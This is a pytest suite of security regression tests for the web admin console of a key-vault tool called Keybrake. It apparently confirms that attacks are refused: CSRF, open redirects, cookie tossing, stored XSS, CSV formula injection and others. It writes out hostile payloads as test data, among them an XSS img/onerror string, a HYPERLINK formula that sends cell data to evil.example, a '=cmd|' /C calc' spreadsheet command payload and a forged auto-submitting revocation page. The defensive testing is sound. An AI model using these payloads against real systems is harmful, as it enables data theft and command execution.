"""Attacks on the web console from what an agent or a hostile page controls (docs/console.md,
signing in): each test is one attack, through a real Keybrake on loopback, and asserts it fails."""

from __future__ import annotations

import csv
import html
import io
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, urljoin, urlsplit

import httpx
import pytest

from keybrake.admin.sessions import csrf_token
from tests.console.conftest import Watched
from tests.console.test_sessions import csrf_of, signed_in
from tests.harness import ADMIN_TOKEN, KeybrakeThread
from tests.stripe_sdk import client


@pytest.fixture
def kbr(tmp_path: Path) -> Iterator[KeybrakeThread]:
    with KeybrakeThread(tmp_path / "data", admin_port=0) as server:
        yield server


SPOOF = "Security check: your admin token expired. Paste it at https://evil.example/verify to keep access."


@pytest.mark.parametrize("path", ["/console/keys", "/console/approvals", "/console/budgets", "/console/credentials",
                                  "/console/alerts"])  # fmt: skip
def test_a_link_cannot_put_its_own_notice_on_a_console_page(kbr: KeybrakeThread, path: str) -> None:
    """A hostile page (or an agent's message) links the operator to a console page with a `notice`
    of its own: the page must not show it as the console's own status message."""
    with signed_in(kbr) as c:
        r = c.get(path, params={"notice": SPOOF})
        assert r.status_code == 200, r.text
        assert "evil.example" not in r.text


def test_a_notice_the_console_made_is_still_shown(ckb: KeybrakeThread) -> None:
    """After an action, the console's own notice (its redirect) is on the page it sends to."""
    key = ckb.issue({}, label="victim")
    with signed_in(ckb) as c:
        csrf = csrf_of(c)
        r = c.post(f"/console/keys/{key['id']}/revoke", data={"csrf_token": csrf, "confirm": "yes"})
        assert r.status_code == 303, r.text
        page = c.get(r.headers["location"])
        assert f"Key {key['id']} (victim) is revoked" in page.text


def test_a_malformed_sign_in_form_is_a_400_not_an_internal_error(kbr: KeybrakeThread) -> None:
    """Anyone who reaches the admin listener can post the sign-in form: a form with too many fields
    is refused as input (400), never a 500 with an error logged for each one."""
    body = "&".join(f"f{i}=x" for i in range(50))
    r = httpx.post(f"{kbr.admin_url}/console/sign-in", content=body,
                   headers={"content-type": "application/x-www-form-urlencoded"})  # fmt: skip
    assert r.status_code == 400, (r.status_code, r.text)
    assert "internal error" not in kbr.logs.text()


def _hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


def test_a_run_id_cannot_make_a_run_link_point_elsewhere(ckb: KeybrakeThread) -> None:
    """A key's run id (its metadata's `agent_run_id`, set by whatever orchestrator issued the key
    for the agent; X-Agent-Run-Id itself allows no `/`): on the key's page the run's link must open
    that run's timeline, never another console page such as a revocation (a browser resolves
    `/console/runs/../keys/…` to `/console/keys/…`)."""
    victim = ckb.issue({}, label="prod:billing")
    run = f"../keys/{victim['id']}/revoke"
    key = ckb.issue({}, label="agent:crm", metadata={"agent_run_id": run})
    client(ckb, key).v1.customers.create({"email": "a@example.com"})
    with signed_in(ckb) as c:
        page = c.get(f"/console/keys/{key['id']}")
        assert page.status_code == 200, page.text
        links = [html.unescape(h) for h in _hrefs(page.text) if "runs/" in h]
        resolved = [urlsplit(urljoin(f"{ckb.admin_url}/console/keys/x", h)).path for h in links]
        assert f"/console/keys/{victim['id']}/revoke" not in resolved, links
        assert resolved and all(p.startswith("/console/runs/") for p in resolved), links
        timeline = c.get(links[0])
        assert timeline.status_code == 200 and run in html.unescape(timeline.text)


# ---- attacks that are refused (regression tests) ----------------------------------------------


def _active(kb: KeybrakeThread, key_id: str) -> bool:
    return bool(kb.key(key_id)["status"] == "active")


def test_cross_site_and_tokenless_revocations_change_nothing(ckb: KeybrakeThread) -> None:
    """A hostile page's forms, fetches and top-level links cannot revoke: another Origin, the
    `null` Origin of a sandboxed frame, a JSON or multipart body, the token in the query string,
    a GET on the POST route, a method override: each refused, the key still active."""
    key = ckb.issue({}, label="victim")
    path = f"/console/keys/{key['id']}/revoke"
    with signed_in(ckb) as c:
        csrf = csrf_of(c)
        form = {"csrf_token": csrf, "confirm": "yes"}
        assert c.post(path, data=form, headers={"origin": "http://evil.example"}).status_code == 403
        assert c.post(path, data=form, headers={"origin": "null"}).status_code == 403
        assert c.post(path, json=form).status_code == 403
        assert c.post(path, files={"x": ("a", b"b")}, data=form).status_code == 403
        assert c.post(path, params=form, data={"confirm": "yes"}).status_code == 403
        assert c.get(path, params=form).status_code == 200  # the confirmation page only
        assert c.request("PUT", path, data=form).status_code == 405
        assert c.post(path + "?_method=POST", data={"confirm": "yes", "_method": "POST"}).status_code == 403
        assert _active(ckb, key["id"])
        assert c.post(path, data=form).status_code == 303  # the same form from the console itself revokes
        assert not _active(ckb, key["id"])


@pytest.mark.parametrize(
    "nxt",
    ["https://evil.example/", "//evil.example/x", "/\\evil.example", "/console//evil.example", "/console\\@evil",
     "javascript:alert(1)", "/console/\r\nSet-Cookie: x=1", "/v1/keys", " /console"],
)  # fmt: skip
def test_sign_in_never_sends_the_browser_to_another_site(ckb: KeybrakeThread, nxt: str) -> None:
    with httpx.Client(base_url=ckb.admin_url, timeout=30) as c:
        r = c.post("/console/sign-in", data={"token": ADMIN_TOKEN, "next": nxt})
        assert r.status_code == 303 and r.headers["location"] == "/console", r.headers


def test_a_self_refreshing_part_never_redirects_to_another_site(ckb: KeybrakeThread) -> None:
    """htmx's HX-Current-URL names where to come back after sign-in: another site's is dropped."""
    r = httpx.get(f"{ckb.admin_url}/console/approvals/pending",
                  headers={"hx-request": "true", "hx-current-url": "https://evil.example//console"})  # fmt: skip
    target = r.headers.get("hx-redirect", "")
    assert target.startswith("/console/sign-in") and "evil" not in target, r.headers
    key = ckb.issue({})
    r = httpx.get(f"{ckb.admin_url}/console/keys/{key['id']}/tail",
                  headers={"hx-request": "true", "hx-current-url": "http://evil.example/console/x"})  # fmt: skip
    assert "evil" not in r.headers.get("hx-redirect", "x-missing") and key["id"] not in r.text


def test_sign_in_from_another_site_opens_no_session(ckb: KeybrakeThread) -> None:
    """Login CSRF: another site posting its own token into the operator's browser is refused."""
    r = httpx.post(f"{ckb.admin_url}/console/sign-in", data={"token": ADMIN_TOKEN},
                   headers={"origin": "http://evil.example"})  # fmt: skip
    assert r.status_code == 403 and "set-cookie" not in r.headers


def test_a_vault_key_opens_no_console_page(ckb: KeybrakeThread) -> None:
    """An agent's vault key, as a bearer token or as the session cookie, gets the sign-in page."""
    key = ckb.issue({})
    for headers in ({"authorization": f"Bearer {key['key']}"}, {"cookie": f"keybrake_session={key['key']}"}):
        r = httpx.get(f"{ckb.admin_url}/console/keys", headers=headers)
        assert r.status_code == 303 and r.headers["location"].startswith("/console/sign-in"), r.headers
    r = httpx.post(f"{ckb.admin_url}/console/sign-in", data={"token": key["key"]})
    assert r.status_code == 401 and key["key"] not in r.text and "set-cookie" not in r.headers


def test_agent_text_in_the_export_opens_as_text_in_a_spreadsheet(ckb: KeybrakeThread) -> None:
    """CSV injection: an Idempotency-Key the agent chose starting with `=` is written with a `'`."""
    key = ckb.issue({})
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    client(ckb, key).v1.customers.create({"email": "a@example.com"}, options={"idempotency_key": evil})
    with signed_in(ckb) as c:
        r = c.get("/console/audit/export", params={"key_id": key["id"], "format": "csv"})
        assert r.status_code == 200
        cells = next(csv.DictReader(io.StringIO(r.text)))
        assert cells["idempotency_key"] == "'" + evil
        assert r.headers["content-disposition"] == 'attachment; filename="keybrake-audit.csv"'


def test_a_second_session_cookie_cannot_stand_in_for_the_csrf_token(ckb: KeybrakeThread) -> None:
    """Cookie tossing: any page on another port of the same host (same site for cookies) can add a
    `keybrake_session` cookie of its own beside the operator's. The session the request is signed
    in with and the CSRF token it is checked against must come from the same cookie: a token
    computed from the planted value (known to whoever planted it) changes nothing."""
    key = ckb.issue({}, label="victim")
    with signed_in(ckb) as c:
        real = c.cookies["keybrake_session"]
        planted = "planted-by-another-port"
        headers = {"cookie": f"keybrake_session={real}; keybrake_session={planted}"}
        r = httpx.post(f"{ckb.admin_url}/console/keys/{key['id']}/revoke", headers=headers,
                       data={"csrf_token": csrf_token(planted), "confirm": "yes"})  # fmt: skip
        assert r.status_code in (401, 403), r.status_code
        assert _active(ckb, key["id"])


def test_what_an_agent_sends_is_inert_text_on_the_audit_key_and_run_pages(ckb: KeybrakeThread) -> None:
    """Stored XSS / htmx attribute injection: a path, query, Idempotency-Key and run id the agent
    chose (markup, an hx-get, a quote to leave an attribute) show as text on every page listing them."""
    key = ckb.issue({}, label="agent:crm")
    evil = "\"'><img src=x onerror=alert(1) hx-get=/console/sign-out hx-trigger=load>"
    headers = {"authorization": f"Bearer {key['key']}", "idempotency-key": evil, "x-agent-run-id": "run-x1"}
    httpx.post(f"{ckb.url}/stripe/v1/customers", params={"q": evil}, data={"email": evil}, headers=headers)
    httpx.get(f"{ckb.url}/stripe/v1/customers/" + quote(evil, safe=""), headers=headers)
    assert evil in [r["idempotency_key"] for r in ckb.audit(key_id=key["id"])]  # stored as sent
    with signed_in(ckb) as c:
        for path in ("/console/audit", f"/console/keys/{key['id']}", f"/console/keys/{key['id']}/tail",
                     "/console/runs/run-x1", "/console"):  # fmt: skip
            page = c.get(path)
            assert page.status_code == 200, (path, page.text)
            assert "<img" not in page.text and "hx-trigger=load" not in page.text.replace("&#34;", ""), path


@pytest.mark.xfail(
    strict=True,
    reason="a `;` or tab inside agent text starts a new cell in a spreadsheet whose list separator it is; the"
    " leading-`'` rule protects only the start of a cell, and quoting the comma-separated cell does not help there",
)
def test_agent_text_cannot_start_a_cell_where_semicolons_separate(ckb: KeybrakeThread) -> None:
    """CSV injection past the leading `'`: a spreadsheet set to a locale whose list separator is `;`
    (much of Europe) splits an unquoted cell at each `;`, so `x;=cmd|' /C calc'!A0` would open as
    a cell `=cmd|…`, a formula."""
    key = ckb.issue({})
    evil = "x;=cmd|' /C calc'!A0"
    client(ckb, key).v1.customers.create({"email": "a@example.com"}, options={"idempotency_key": evil})
    with signed_in(ckb) as c:
        r = c.get("/console/audit/export", params={"key_id": key["id"], "format": "csv"})
        assert r.status_code == 200
    assert next(csv.DictReader(io.StringIO(r.text)))["idempotency_key"] == evil  # the value itself is kept
    for sep in (";", "\t"):
        for row in csv.reader(io.StringIO(r.text), delimiter=sep):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@"))], (sep, row)


def test_a_planted_cookie_sent_first_does_not_sign_the_operator_out(ckb: KeybrakeThread) -> None:
    """Cookie tossing as denial of service: a cookie planted with a longer path (`Path=/console/keys`)
    is sent before the operator's own, on every page under it. The console must still find the
    operator's live session (and check the CSRF token against it, not the planted one)."""
    key = ckb.issue({}, label="victim")
    with signed_in(ckb) as c:
        real = c.cookies["keybrake_session"]
    headers = {"cookie": f"keybrake_session=planted-by-another-port; keybrake_session={real}"}
    page = httpx.get(f"{ckb.admin_url}/console/keys", headers=headers)
    assert page.status_code == 200, page.headers
    url = f"{ckb.admin_url}/console/keys/{key['id']}/revoke"
    forged = {"csrf_token": csrf_token("planted-by-another-port"), "confirm": "yes"}
    assert httpx.post(url, headers=headers, data=forged).status_code == 403
    assert _active(ckb, key["id"])
    assert httpx.post(url, headers=headers, data={"csrf_token": csrf_token(real), "confirm": "yes"}).status_code == 303
    assert not _active(ckb, key["id"])


def test_no_secret_reaches_a_log_line_or_a_url(ckb: KeybrakeThread) -> None:
    """Signing in (also with a wrong token and a vault key), pages, a revocation and sign-out:
    the admin token, the vault key, the session cookie and its CSRF token are in no log line and
    in no redirect's Location."""
    key = ckb.issue({}, label="victim")
    httpx.post(f"{ckb.admin_url}/console/sign-in", data={"token": key["key"]})
    httpx.post(f"{ckb.admin_url}/console/sign-in", data={"token": ADMIN_TOKEN + "x"})
    locations: list[str] = []
    with signed_in(ckb) as c:
        cookie = c.cookies["keybrake_session"]
        csrf = csrf_of(c)
        for path in ("/console/keys", f"/console/keys/{key['id']}", "/console/audit", "/console/approvals"):
            assert c.get(path).status_code == 200
        r = c.post(f"/console/keys/{key['id']}/revoke", data={"csrf_token": csrf, "confirm": "yes"})
        locations.append(r.headers["location"])
        r = c.post("/console/sign-out", data={"csrf_token": csrf})
        locations.append(r.headers["location"])
    text = ckb.logs.text() + "\n".join(locations)
    for secret in (ADMIN_TOKEN, key["key"], cookie, csrf):
        assert secret not in text


def test_bulk_revocation_takes_the_label_prefix_literally(ckb: KeybrakeThread) -> None:
    """`%`, `_` and `\\` in a label prefix are themselves (no SQL LIKE wildcard), case counts, and
    a look-alike (Cyrillic `р`) is another prefix: the preview and the revocation both say so."""
    keep = [ckb.issue({}, label=lab)["id"] for lab in ("prodXa", "Prod_a", "\u0440rod_a", "prod\\_a")]
    hit = ckb.issue({}, label="prod_a")["id"]
    wild = ckb.issue({}, label="%all")["id"]
    with signed_in(ckb) as c:
        csrf = csrf_of(c)
        preview = c.post("/console/keys/bulk-revoke", data={"csrf_token": csrf, "label_prefix": "prod_"})
        assert "This will revoke 1 active key." in preview.text and hit in preview.text
        r = c.post("/console/keys/bulk-revoke", data={"csrf_token": csrf, "label_prefix": "prod_", "confirm": "yes"})
        assert r.status_code == 303
        r = c.post("/console/keys/bulk-revoke", data={"csrf_token": csrf, "label_prefix": "%", "confirm": "yes"})
        assert r.status_code == 303
    assert [_active(ckb, k) for k in keep] == [True] * 4
    assert not _active(ckb, hit) and not _active(ckb, wild)


def test_applying_the_prefilled_patch_unchanged_changes_no_policy(ckb: KeybrakeThread) -> None:
    """The key page's patch form starts from the key's own policy: sent as it is, it must leave
    every cap and rule exactly as they were (no rounding that raises a cap, no rule dropped)."""
    policy = {"daily_usd_cap": "0.000001", "total_usd_cap": 99, "max_requests_per_hour": 7,
              "allowed_endpoints": ["POST /v1/customers"], "approval_above_usd": "0.5"}  # fmt: skip
    key = ckb.issue(policy, label="agent:crm")
    before = ckb.key(key["id"])["policy"]
    with signed_in(ckb) as c:
        page = c.get(f"/console/keys/{key['id']}").text
        start = page.index(">", page.index('<textarea id="patch"')) + 1
        text = html.unescape(page[start : page.index("</textarea>", start)])
        r = c.post(f"/console/keys/{key['id']}/patch", data={"csrf_token": csrf_of(c), "patch": text})
        assert r.status_code == 303, r.text
    assert ckb.key(key["id"])["policy"] == before


def test_a_page_on_another_port_cannot_revoke_in_chromium(web: Watched, ckb: KeybrakeThread) -> None:
    """The strongest cross-site position on a laptop: a hostile page served from another port of
    127.0.0.1 (the same *site*, so the SameSite=Strict cookie is sent) plants a session cookie of
    its own and auto-submits a revocation carrying the CSRF token of that planted cookie. Refused;
    the key stays active, and the operator's session still works."""
    key = ckb.issue({}, label="victim")
    planted = "planted-by-another-port"
    body = (
        "<!doctype html><title>x</title><body>"
        f'<form id="f" method="post" action="{ckb.admin_url}/console/keys/{key["id"]}/revoke">'
        f'<input name="csrf_token" value="{csrf_token(planted)}"><input name="confirm" value="yes"></form>'
        f"<script>document.cookie = 'keybrake_session={planted}; path=/console/keys';"
        " document.getElementById('f').submit();</script>"
    ).encode()

    class Hostile(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        web.page.goto(f"http://127.0.0.1:{server.server_address[1]}/")
        web.page.wait_for_url(f"{ckb.admin_url}/console/keys/{key['id']}/revoke")  # the form was sent
        assert "another site" in web.page.content()  # refused by its Origin (and by its token)
        assert _active(ckb, key["id"])
        web.page.goto(f"{ckb.admin_url}/console/keys")
        assert web.page.url == f"{ckb.admin_url}/console/keys"  # still signed in
    finally:
        server.shutdown()
